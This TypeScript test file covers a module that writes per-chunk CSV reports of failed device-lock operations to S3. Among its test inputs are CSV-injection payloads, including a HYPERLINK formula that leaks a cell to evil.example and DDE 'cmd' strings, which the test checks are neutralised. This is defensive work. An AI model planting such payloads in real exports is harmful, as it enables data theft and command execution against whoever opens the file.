import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type DeviceResult, failureFromEnvelope, knoxCode } from '../../../lib/errors';
import {
  type ChunkMessage,
  createRunReports,
  executeChunk,
  observationOf,
  type RunReportStore,
  withReport,
} from '../../../lib/operations';
import { neutralizeFormula, renderRunReportCsv } from '../../../lib/operations/renderRunReportCsv';
import {
  RUN_REPORT_COLUMNS,
  type RunReportRow,
  runReportConsoleUrl,
  runReportKey,
  runReportPrefix,
} from '../../../lib/operations/runReport';
import { fakeExecutor } from '../../helpers/operationsFakes';

const NOW = Date.parse('2026-11-30T07:00:12.345Z');
const clock = { now: () => NOW };

function message(deviceUids: readonly string[], chunk = 0, attempt = 0): ChunkMessage {
  return {
    v: 1,
    stage: 'test',
    job: 'overdue-lock',
    runId: 'overdue-lock@2026-11-30T07:00:00.000Z',
    operation: 'lock',
    params: { message: 'Pay', tel: '+4930123456' },
    chunk,
    attempt,
    deviceUids: [...deviceUids],
  };
}

/** An executor answering each device with DEVICE_NOT_FOUND and the reason `reasonOf(id)`, or success. */
function reasonExecutor(reasonOf: (id: string) => string | undefined) {
  return {
    async execute(_operation: string, deviceUids: readonly string[]) {
      const results: DeviceResult[] = deviceUids.map((requestedId) => {
        const reason = reasonOf(requestedId);
        if (reason === undefined) return { ok: true, requestedId };
        const envelope = { code: 4040300, message: 'DEVICE_NOT_FOUND', reason };
        return { ok: false, requestedId, error: failureFromEnvelope(envelope, 404, { requestedId }) };
      });
      return { results };
    },
  };
}

/** Keeps each object as the S3 adapter writes it: the rows rendered as CSV. */
function memoryStore(): RunReportStore & { objects: Map<string, string>; puts: string[] } {
  const objects = new Map<string, string>();
  const puts: string[] = [];
  return {
    objects,
    puts,
    async put(key, rows) {
      puts.push(key);
      objects.set(key, renderRunReportCsv(rows));
    },
  };
}

const reports = (store = memoryStore()) =>
  createRunReports({ store, bucket: 'acme-reports', region: 'eu-central-1', clock });

const read = (csv: string): string[][] => parse(csv, { relax_column_count: false }) as string[][];

describe('renderRunReportCsv', () => {
  const row = (overrides: Partial<RunReportRow>): RunReportRow => ({
    deviceId: '353456789012345',
    code: '4040300',
    codeName: 'DEVICE_NOT_FOUND',
    reason: 'Device not found.',
    time: '2026-11-30T07:00:12.345Z',
    ...overrides,
  });

  it('writes a header row and quotes every cell; commas, quotes and line breaks in reasons survive a csv-parse round trip', () => {
    // Prepare
    const reasons = [
      'Current status is \'Locked\', expected "Enrolled".',
      'line one\nline two\r\nline three',
      'semi;colon\ttab, and "quotes"',
    ];
    // Act
    const csv = renderRunReportCsv(reasons.map((reason) => row({ reason })));
    // Assess
    expect(csv.startsWith('"deviceId","code","codeName","reason","time"\r\n')).toBe(true);
    expect(read(csv)).toEqual([
      [...RUN_REPORT_COLUMNS],
      ...reasons.map((reason) => [
        '353456789012345',
        '4040300',
        'DEVICE_NOT_FOUND',
        reason,
        '2026-11-30T07:00:12.345Z',
      ]),
    ]);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('neutralises a cell that starts like a formula (OWASP CSV injection): %j', (payload) => {
    const csv = renderRunReportCsv([row({ deviceId: payload, reason: payload })]);
    const [, cells] = read(csv);
    expect(cells?.[0]).toBe(`'${payload}`);
    expect(cells?.[3]).toBe(`'${payload}`);
  });

  it('leaves ordinary cells as they are', () => {
    for (const text of ['353456789012345', 'R58N12ABCDE', 'Device not found.', 'a=b', '', "'quoted"])
      expect(neutralizeFormula(text)).toBe(text);
  });
});

describe('run report keys and links', () => {
  it('one prefix per run, one object per chunk attempt', () => {
    const run = { job: 'overdue-lock', runId: 'overdue-lock@2026-11-30T07:00:00.000Z' };
    expect(runReportPrefix(run)).toBe('reports/overdue-lock/overdue-lock@2026-11-30T07:00:00.000Z/');
    expect(runReportKey({ ...run, chunk: 3, attempt: 0 })).toBe(
      'reports/overdue-lock/overdue-lock@2026-11-30T07:00:00.000Z/chunk-00003.csv',
    );
    expect(runReportKey({ ...run, chunk: 3, attempt: 2 })).toBe(
      'reports/overdue-lock/overdue-lock@2026-11-30T07:00:00.000Z/chunk-00003-attempt-2.csv',
    );
    // A slash cannot open another folder.
    expect(runReportPrefix({ job: 'a/b', runId: 'x/y' })).toBe('reports/a_b/x_y/');
  });

  it('links the S3 console page of the prefix, encoded, holding only bucket, job and run id', () => {
    const url = runReportConsoleUrl({
      region: 'eu-central-1',
      bucket: 'acme-reports',
      prefix: runReportPrefix({ job: 'overdue-lock', runId: 'overdue-lock@2026-11-30T07:00:00.000Z' }),
    });
    expect(url).toBe(
      'https://eu-central-1.console.aws.amazon.com/s3/buckets/acme-reports?region=eu-central-1&prefix=reports%2Foverdue-lock%2Foverdue-lock%402026-11-30T07%3A00%3A00.000Z%2F',
    );
    const parsed = new URL(url);
    expect(parsed.searchParams.get('prefix')).toBe(
      'reports/overdue-lock/overdue-lock@2026-11-30T07:00:00.000Z/',
    );
  });
});

describe('createRunReports().writeChunk', () => {
  it("writes exactly the chunk's failed devices, full ids, code, reason and time, in chunk order", async () => {
    // Prepare
    const ids = ['356938035643809', '356938035643817', 'R58N12ABCDE', '356938035643825'];
    const outcome = await executeChunk(message(ids), {
      executor: fakeExecutor((id) =>
        id.endsWith('09') ? 'OK' : id.startsWith('R') ? 'LICENSE_IS_LACK' : 'DEVICE_NOT_FOUND',
      ),
    });
    const store = memoryStore();
    // Act
    const result = await reports(store).writeChunk(message(ids), outcome);
    // Assess
    expect(result).toMatchObject({
      written: true,
      rows: 3,
      key: 'reports/overdue-lock/overdue-lock@2026-11-30T07:00:00.000Z/chunk-00000.csv',
      location: 's3://acme-reports/reports/overdue-lock/overdue-lock@2026-11-30T07:00:00.000Z/',
    });
    const time = '2026-11-30T07:00:12.345Z';
    expect(read(store.objects.get(result?.key ?? '') ?? '')).toEqual([
      [...RUN_REPORT_COLUMNS],
      ['356938035643817', '4040300', 'DEVICE_NOT_FOUND', 'simulated DEVICE_NOT_FOUND', time],
      ['R58N12ABCDE', knoxCode('LICENSE_IS_LACK').code, 'LICENSE_IS_LACK', 'simulated LICENSE_IS_LACK', time],
      ['356938035643825', '4040300', 'DEVICE_NOT_FOUND', 'simulated DEVICE_NOT_FOUND', time],
    ]);
  });

  it('writes nothing for a chunk without failed devices', async () => {
    const ids = ['356938035643809'];
    const outcome = await executeChunk(message(ids), { executor: fakeExecutor(() => 'OK') });
    const store = memoryStore();
    expect(await reports(store).writeChunk(message(ids), outcome)).toBeUndefined();
    expect(store.puts).toEqual([]);
  });

  it('a retried chunk replaces its own object: the same key, the same rows, never twice', async () => {
    const ids = ['356938035643817', '356938035643825'];
    const outcome = await executeChunk(message(ids, 4), { executor: fakeExecutor(() => 'DEVICE_NOT_FOUND') });
    const store = memoryStore();
    const first = await reports(store).writeChunk(message(ids, 4), outcome);
    const again = await reports(store).writeChunk(message(ids, 4), outcome);
    expect(again?.key).toBe(first?.key);
    expect(store.puts).toEqual([first?.key, first?.key]);
    expect(store.objects.size).toBe(1);
    expect(read(store.objects.get(first?.key ?? '') ?? '')).toHaveLength(3);
  });

  it('answers written: false with the error when S3 refuses, instead of throwing', async () => {
    const ids = ['356938035643817'];
    const outcome = await executeChunk(message(ids), { executor: fakeExecutor(() => 'DEVICE_NOT_FOUND') });
    const failing = createRunReports({
      store: {
        async put() {
          throw Object.assign(new Error('Access Denied'), { name: 'AccessDenied' });
        },
      },
      bucket: 'acme-reports',
      region: 'eu-central-1',
      clock,
    });
    const result = await failing.writeChunk(message(ids), outcome);
    expect(result).toMatchObject({ written: false, rows: 1, error: 'AccessDenied: Access Denied' });
    // The observation carries the note and one RUN_REPORT_UNWRITABLE failure naming no device.
    const observation = withReport(observationOf(message(ids), outcome), message(ids), result);
    expect(observation.report).toMatchObject({ written: false, key: result?.key });
    const added = observation.failures.filter((f) => f.error.codeName === 'RUN_REPORT_UNWRITABLE');
    expect(added).toHaveLength(1);
    expect(added[0]?.deviceId).toBeUndefined();
    expect(added[0]?.error.reason).toBe(
      'chunk 0 of run overdue-lock@2026-11-30T07:00:00.000Z: AccessDenied: Access Denied',
    );
    expect(added[0]?.error.reason).not.toContain(ids[0]);
  });

  it('answers written: false for an outcome recorded for another device list', async () => {
    const outcome = await executeChunk(message(['356938035643817']), {
      executor: fakeExecutor(() => 'DEVICE_NOT_FOUND'),
    });
    const result = await reports().writeChunk(message(['356938035643825']), outcome);
    expect(result).toMatchObject({ written: false });
    expect(result?.written === false && result.error).toContain('ChunkOutcomeMismatchError');
  });

  it('keeps memory to one chunk: a 25,000-device run writes three objects of at most 10,000 rows each', async () => {
    // Prepare: every device fails with a reason of its own (the longest Knox Guard keeps: 300 characters).
    const all = Array.from({ length: 25_000 }, (_, i) => `35693803${String(i).padStart(7, '0')}`);
    const longReason = (id: string) => `Device ${id} not found. ${'x'.repeat(400)}`;
    const store = memoryStore();
    const writer = reports(store);
    let largest = 0;
    // Act: the run's chunks, one at a time, as the scheduler and the workers run them.
    for (let chunk = 0; chunk * 10_000 < all.length; chunk += 1) {
      const ids = all.slice(chunk * 10_000, (chunk + 1) * 10_000);
      const outcome = await executeChunk(message(ids, chunk), { executor: reasonExecutor(longReason) });
      const result = await writer.writeChunk(message(ids, chunk), outcome);
      expect(result?.written).toBe(true);
      largest = Math.max(largest, Buffer.byteLength(store.objects.get(result?.key ?? '') ?? ''));
    }
    // Assess: one object per chunk, each holding only its own chunk's rows.
    expect([...store.objects.keys()].map((key) => key.split('/').at(-1))).toEqual([
      'chunk-00000.csv',
      'chunk-00001.csv',
      'chunk-00002.csv',
    ]);
    const rows = [...store.objects.values()].map((csv) => read(csv).length - 1);
    expect(rows).toEqual([10_000, 10_000, 5_000]);
    // A 10,000-row object: 300-character reasons plus ids and quotes, about 3.7 MB, not the run's 9 MB.
    expect(largest).toBeLessThan(10_000 * 400);
  });
});
